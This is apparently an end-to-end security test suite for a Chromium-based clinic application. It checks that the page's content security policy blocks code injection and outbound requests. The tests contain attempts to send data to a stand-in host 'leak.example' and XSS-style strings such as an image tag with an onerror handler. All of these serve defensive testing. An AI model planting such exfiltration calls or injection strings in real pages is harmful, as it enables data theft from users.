import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';

import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { openChromium } from '#electron/browser-shell/chromium.ts';
import { ORIGIN, servePage, type SeenRequest } from '#electron/browser-shell/serve-page.ts';
import { builtProgram } from '#electron/browser-shell/paths.ts';
import { loadPageFiles } from '#electron/supervisor/page-files.ts';
import { openClinic, type OpenClinic } from '#test/support/chromium.ts';
import { until } from '#test/support/until.ts';

// The built product in a real Chromium: design/security.md §1.3 item 7, §6.2 and product.md decisions 2 and 13.
let clinic: OpenClinic;
let temporary: string;
const profiles = (): string[] => readdirSync(temporary).filter(name => name.startsWith('klinikbok-window-'));

beforeAll(async () => {
  temporary = mkdtempSync(path.join(tmpdir(), 'klinikbok-e2e-'));
  process.env['TMPDIR'] = temporary;
  clinic = await openClinic();
  await clinic.page.getByRole('heading').first().waitFor({ timeout: 30_000 });
});
afterAll(async () => {
  await clinic.close();
  expect(profiles(), 'browser profiles left behind').toEqual([]);
  delete process.env['TMPDIR'];
  rmSync(temporary, { recursive: true, force: true });
});

/** Every process and its parent, as they are now. */
function processes(): Map<number, number> {
  const parents = new Map<number, number>();
  for (const name of readdirSync('/proc').filter(n => /^\d+$/.test(n))) {
    try {
      const stat = readFileSync(`/proc/${name}/stat`, 'utf8');
      parents.set(Number(name), Number(stat.slice(stat.lastIndexOf(')') + 4).split(' ')[0]));
    } catch {
      // It ended while we looked.
    }
  }
  return parents;
}

/** The processes this one started, itself: the roots of what runs. */
const children = (): number[] => [...processes()].filter(([, parent]) => parent === process.pid).map(([pid]) => pid);

/** Every process started by this one (or by one of the roots only), and theirs. */
function descendants(roots?: readonly number[]): number[] {
  const parents = processes();
  const isOurs = (pid: number): boolean => (roots ?? [process.pid]).includes(pid) || (parents.has(pid) && pid > 1 && isOurs(parents.get(pid) ?? 0));
  return [...parents.keys()].filter(pid => pid !== process.pid && isOurs(pid));
}

/** Sockets of ours that wait for somebody to connect by TCP. */
function listening(pids: readonly number[]): string[] {
  const waiting = new Set<string>();
  for (const table of ['/proc/net/tcp', '/proc/net/tcp6']) {
    for (const line of existsSync(table) ? readFileSync(table, 'utf8').split('\n').slice(1) : []) {
      const columns = line.trim().split(/\s+/);
      if (columns[3] === '0A' && columns[9]) waiting.add(columns[9]);
    }
  }
  return pids.flatMap(pid => {
    try {
      return readdirSync(`/proc/${pid}/fd`).map(fd => readlinkSync(`/proc/${pid}/fd/${fd}`)).filter(link => waiting.has(/^socket:\[(\d+)\]$/.exec(link)?.[1] ?? ''));
    } catch {
      return [];
    }
  });
}

/** Runs in the page: tries every way out that a page has, and what would run strange code. */
function tryToEscape(): void {
  const image = new Image();
  image.src = 'https://leak.example/image';
  void fetch('https://leak.example/fetch').catch(() => undefined);
  navigator.sendBeacon('https://leak.example/beacon', 'x');
  try { new WebSocket('wss://leak.example/socket'); } catch { /* refused */ }
  try { new EventSource('https://leak.example/events'); } catch { /* refused */ }
  for (const [tag, attribute] of [['link', 'href'], ['iframe', 'src'], ['video', 'src'], ['object', 'data'], ['embed', 'src']] as const) {
    const element = document.createElement(tag);
    if (tag === 'link') element.setAttribute('rel', 'stylesheet');
    try { element.setAttribute(attribute, `https://leak.example/${tag}`); } catch { /* refused */ }
    document.body.append(element);
  }
  const form = document.createElement('form');
  form.action = 'https://leak.example/form';
  form.method = 'post';
  document.body.append(form);
  form.submit();
  window.open('https://leak.example/popup');
}

async function escapes(page: Page, seen: readonly SeenRequest[]): Promise<string[]> {
  const before = seen.length;
  await page.evaluate(tryToEscape);
  // A request that is on its way shows within this time: in the control run all of them do.
  await page.waitForTimeout(1_500);
  return [...new Set(seen.slice(before).filter(r => r.url.includes('leak.example')).map(r => new URL(r.url).pathname))];
}

describe('the built page', () => {
  it('starts without one script error or breach of its own policy', () => {
    expect(clinic.problems).toEqual([]);
  });

  it('asks for nothing but its own files', () => {
    expect(clinic.requests.length).toBeGreaterThan(2);
    expect(clinic.requests.filter(r => !r.allowed || !r.url.startsWith(`${ORIGIN}/`))).toEqual([]);
  });

  it('is served with the production policy', async () => {
    const answer = await clinic.page.reload();
    const headers = answer?.headers() ?? {};
    expect(headers['content-security-policy']).toMatch(/^default-src 'none'; script-src 'self'; style-src 'self' 'nonce-[^']{24}'; /);
    expect(headers['content-security-policy']).not.toContain('unsafe');
    expect(headers['x-content-type-options']).toBe('nosniff');
  });

  it('has two functions and no way to change them', async () => {
    const shape = await clinic.page.evaluate(() => {
      const { clinic: bridge } = window as unknown as { clinic: object };
      const tampered = Reflect.set(bridge, 'invoke', null) || Reflect.deleteProperty(window, 'clinic') || Reflect.set(window, 'clinic', null);
      return { keys: Object.keys(bridge).sort(), frozen: Object.isFrozen(bridge), tampered };
    });
    expect(shape).toEqual({ keys: ['invoke', 'onEvent'], frozen: true, tampered: false });
  });

  it('cannot turn text into code or markup', async () => {
    const outcomes = await clinic.page.evaluate(async () => {
      // In a task of its own: code called from outside may do what the page itself may not.
      const attempt = (run: () => unknown): Promise<string> => new Promise(resolve => setTimeout(() => {
        try { resolve(`did: ${String(run())}`); } catch (error) { resolve((error as Error).name); }
      }, 0));
      const image = document.createElement('div');
      return {
        eval: await attempt(() => (0, eval)('1')),
        function: await attempt(() => new Function('return 1')()),
        timeout: await attempt(() => { setTimeout('globalThis.ran = true' as unknown as () => void, 0); return 'set'; }),
        innerHTML: await attempt(() => { image.innerHTML = '<img src=x onerror="globalThis.ran = true">'; return 'set'; }),
        write: await attempt(() => { document.write('<script>globalThis.ran = true</scr' + 'ipt>'); return 'set'; }),
        script: await attempt(() => { const s = document.createElement('script'); s.text = 'globalThis.ran = true'; document.body.append(s); return 'set'; }),
        policy: await attempt(() => (window as unknown as { trustedTypes: { createPolicy(n: string, r: object): unknown } }).trustedTypes.createPolicy('another', {})),
        ran: await new Promise(resolve => setTimeout(() => resolve((globalThis as unknown as { ran?: boolean }).ran ?? false), 100)),
      };
    });
    expect(outcomes.ran).toBe(false);
    expect({ eval: outcomes.eval, function: outcomes.function, innerHTML: outcomes.innerHTML, write: outcomes.write, policy: outcomes.policy })
      .toEqual({ eval: 'EvalError', function: 'EvalError', innerHTML: 'TypeError', write: 'TypeError', policy: 'TypeError' });
  });

  it('cannot send anything anywhere, while the same page without the policy tries to in many ways', async () => {
    expect(await escapes(clinic.page, clinic.requests)).toEqual([]);
    // The control: the detector sees what the policy would have stopped, and stops it as well.
    const files = loadPageFiles(builtProgram.pageFolder);
    const control = await openChromium({ headless: true, viewport: { width: 800, height: 600 }, locale: 'sv-SE', colorScheme: 'light' });
    try {
      const seen = await servePage(control.context, (method, name) => ({ ...files(method, name), headers: { 'content-type': files(method, name).headers['content-type'] ?? '' } }));
      const page = control.context.pages()[0] ?? (await control.context.newPage());
      await page.goto(`${ORIGIN}/`);
      const tried = await escapes(page, seen);
      expect(tried.length).toBeGreaterThanOrEqual(5);
      expect(seen.filter(r => r.url.includes('leak.example') && r.allowed)).toEqual([]);
    } finally {
      await control.close();
    }
  });

  it('opens no second window and stays where it is', async () => {
    const refused = clinic.page.waitForEvent('requestfailed', { predicate: request => request.url().endsWith('/away'), timeout: 10_000 });
    await clinic.page.evaluate(() => { window.open('/'); window.location.href = 'https://leak.example/away'; });
    await refused;
    await until('every other window to be closed', () => clinic.context.pages().length === 1);
    expect(await clinic.page.evaluate(() => window.location.origin)).toBe(ORIGIN);
    await clinic.page.getByRole('heading').first().waitFor({ timeout: 10_000 });
  });

  it('shares its bridge with no frame inside it', async () => {
    await clinic.page.goto(`${ORIGIN}/`);
    const inside = await clinic.page.evaluate(() => new Promise<unknown>(resolve => {
      const frame = document.createElement('iframe');
      frame.addEventListener('load', () => {
        const inner = frame.contentWindow as unknown as Record<string, unknown>;
        resolve({ clinic: typeof inner['clinic'], binding: typeof inner['__klinikbokInvoke'] });
      });
      frame.src = URL.createObjectURL(new Blob(['a document'], { type: 'text/plain' }));
      document.body.append(frame);
    }));
    expect(inside).toEqual({ clinic: 'undefined', binding: 'undefined' });
  });
});

describe('the browser shell', () => {
  it('listens on no port', () => {
    const pids = descendants();
    expect(pids.length).toBeGreaterThan(3);
    expect(listening(pids)).toEqual([]);
  });

  it('refuses a second program on the same data', async () => {
    await expect(openClinic({ dataDir: clinic.dataDir })).rejects.toMatchObject({ code: 'instance.alreadyRunning' });
  });

  it('leaves no process, no browser profile and no lock behind', async () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'klinikbok-ends-'));
    const before = children();
    const other = await openClinic({ dataDir: folder });
    // Of this program only: the first one's browser starts and ends processes as it likes.
    const started = descendants(children().filter(pid => !before.includes(pid)));
    expect(started.length).toBeGreaterThan(2);
    const during = profiles().length;
    await other.stop();
    await until('every process of it to end', () => descendants().filter(pid => started.includes(pid)).length === 0);
    expect(profiles().length).toBe(during - 1);
    expect(existsSync(path.join(folder, 'instance.lock'))).toBe(false);
    rmSync(folder, { recursive: true, force: true });
  });

  it('removes the browser profile of a program that was killed', async () => {
    const dead = path.join(temporary, 'klinikbok-window-2147483646-x');
    mkdirSync(dead);
    const window = await openChromium({ headless: true, viewport: { width: 800, height: 600 }, locale: 'sv-SE', colorScheme: 'light' });
    expect(existsSync(dead)).toBe(false);
    // The one that lives beside it keeps its own.
    expect(profiles().length).toBe(2);
    await window.close();
  });

  it('ends when its window is closed', async () => {
    const folder = mkdtempSync(path.join(tmpdir(), 'klinikbok-ends-'));
    const other = await openClinic({ dataDir: folder });
    await other.page.close();
    await other.ended;
    expect(existsSync(path.join(folder, 'instance.lock'))).toBe(false);
    rmSync(folder, { recursive: true, force: true });
  });
});
